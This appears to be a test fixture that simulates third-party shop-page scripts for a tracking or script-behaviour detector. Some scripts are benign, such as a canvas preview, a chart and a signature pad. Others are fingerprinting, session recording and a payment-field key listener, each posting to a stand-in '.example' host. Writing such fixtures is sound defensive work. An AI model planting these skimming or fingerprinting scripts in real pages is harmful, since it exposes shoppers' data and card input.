import {packageFile} from '../../../workshop/shop/lib/files.mjs';

/* Scripts of companies and of the shop, each as a page would have it. Each sets `window.done` when it is through. */

const done = 'window.done = true;';

/** The real library, as its makers say to call it. */
const fingerprinter = `${packageFile('@fingerprintjs/fingerprintjs', 'dist/fp.umd.min.js')};
FingerprintJS.load({monitoring: false}).then(agent => agent.get()).then(({visitorId}) =>
  fetch('https://in.tracker.example/id', {method: 'POST', body: JSON.stringify({id: visitorId})})
).then(() => { ${done} });`;

/** The real recorder, its events sent on in batches. */
const recorder = `${packageFile('rrweb', 'umd/rrweb.min.js')};
let waiting = [];
rrweb.record({emit: event => waiting.push(event)});
setInterval(() => {
  if (waiting.length === 0) return;
  fetch('https://in.recorder.example/e', {method: 'POST', body: JSON.stringify({events: waiting})});
  waiting = [];
}, 300);
setTimeout(() => { ${done} }, 1500);`;

/** A picture of the product with the customer's words on it, exported once. */
const configurator = `
const canvas = document.querySelector('#preview');
const context = canvas.getContext('2d');
const photo = new Image();
photo.onload = () => {
  context.drawImage(photo, 0, 0, 600, 400);
  context.fillStyle = '#802020';
  context.font = '32px Georgia';
  context.fillText('Happy birthday, grandmother', 40, 350);
  context.fillStyle = '#ffffff';
  context.fillText('1946', 40, 380);
  window.exported = canvas.toDataURL('image/png').length;
  ${done}
};
photo.src = 'data:image/svg+xml,' + encodeURIComponent(
  '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400"><rect width="600" height="400" fill="green"/></svg>');`;

/** Lines and labels, which nobody reads back. */
const chart = `
const canvas = document.querySelector('#preview');
const context = canvas.getContext('2d');
for (let month = 0; month < 12; month++) {
  context.strokeStyle = month % 2 ? '#336699' : '#993366';
  context.beginPath();
  context.moveTo(month * 40, 300);
  context.lineTo(month * 40 + 40, 300 - month * 9);
  context.stroke();
  for (const font of ['12px sans-serif', '14px serif']) {
    context.font = font;
    context.measureText('Turnover ' + month);
    context.fillStyle = month % 2 ? '#336699' : '#993366';
    context.fillText('Turnover ' + month, month * 40, 320);
  }
}
${done}`;

/** Strokes of a hand, exported after each. */
const signature = `
const canvas = document.querySelector('#preview');
const context = canvas.getContext('2d');
let drawing = false;
canvas.addEventListener('pointerdown', event => { drawing = true; context.moveTo(event.offsetX, event.offsetY); });
canvas.addEventListener('pointermove', event => {
  if (!drawing) return;
  context.lineTo(event.offsetX, event.offsetY);
  context.stroke();
});
canvas.addEventListener('pointerup', () => { drawing = false; window.exported = canvas.toDataURL().length; ${done} });`;

/** Draws a few emoji on a canvas of its own to see whether the system has them, as shop software does. */
const emoji = `
const canvas = document.createElement('canvas');
const context = canvas.getContext('2d', {willReadFrequently: true});
context.textBaseline = 'top';
context.font = '600 32px Arial';
const pixels = text => {
  context.clearRect(0, 0, canvas.width, canvas.height);
  context.fillText(text, 0, 0);
  return context.getImageData(0, 0, canvas.width, canvas.height).data.length;
};
for (const text of ['\\u{1F3F3}\\uFE0F\\u200D\\u26A7\\uFE0F', '\\u{1F3F3}\\uFE0F\\u200B\\u26A7\\uFE0F', '\\u{1F1FA}\\u{1F1F3}',
  '\\u{1F3F4}\\u{E0067}\\u{E0062}\\u{E0065}\\u{E006E}\\u{E0067}\\u{E007F}', '\\u{1FAC8}']) pixels(text);
${done}`;

/** Measures a visit as analytics do. */
const analytics = `
const seen = [navigator.userAgent, navigator.language, navigator.languages.length, navigator.platform, navigator.vendor,
  navigator.cookieEnabled, navigator.maxTouchPoints, navigator.hardwareConcurrency, screen.width, screen.height,
  screen.availWidth, screen.colorDepth, devicePixelRatio, new Date().getTimezoneOffset(),
  Intl.DateTimeFormat().resolvedOptions().timeZone, matchMedia('(prefers-color-scheme: dark)').matches];
addEventListener('scroll', () => {}, {passive: true});
addEventListener('keydown', () => {});
fetch('https://in.metrics.example/hit?w=' + screen.width, {method: 'POST', body: JSON.stringify({seen})})
  .then(() => { ${done} });`;

/** A chat that puts its own input on the page and listens there. */
const chat = `
const box = document.createElement('div');
const input = document.createElement('textarea');
input.placeholder = 'Write a message to us';
box.append(input);
document.body.append(box);
input.addEventListener('keydown', event => { if (event.key === 'Enter') input.value = ''; });
input.addEventListener('input', () => { box.dataset.typing = 'yes'; });
${done}`;

/** Takes every key of the payment fields. */
const logger = `
for (const field of document.querySelectorAll('#card input')) {
  field.addEventListener('keyup', () => {
    clearTimeout(window.later);
    window.later = setTimeout(() =>
      fetch('https://in.logger.example/k', {method: 'POST', body: field.name + '=' + field.value.length}), 50);
  });
}
${done}`;

export const SCRIPTS: Readonly<Record<string, string>> = {
  'cdn.tracker.example/fp.js': fingerprinter,
  'cdn.recorder.example/record.js': recorder,
  'apps.configure.example/preview.js': configurator,
  'cdn.charts.example/chart.js': chart,
  'apps.signing.example/pad.js': signature,
  'cdn.emoji.example/test.js': emoji,
  'cdn.metrics.example/m.js': analytics,
  'widget.talking.example/chat.js': chat,
  'cdn.logger.example/k.js': logger,
};
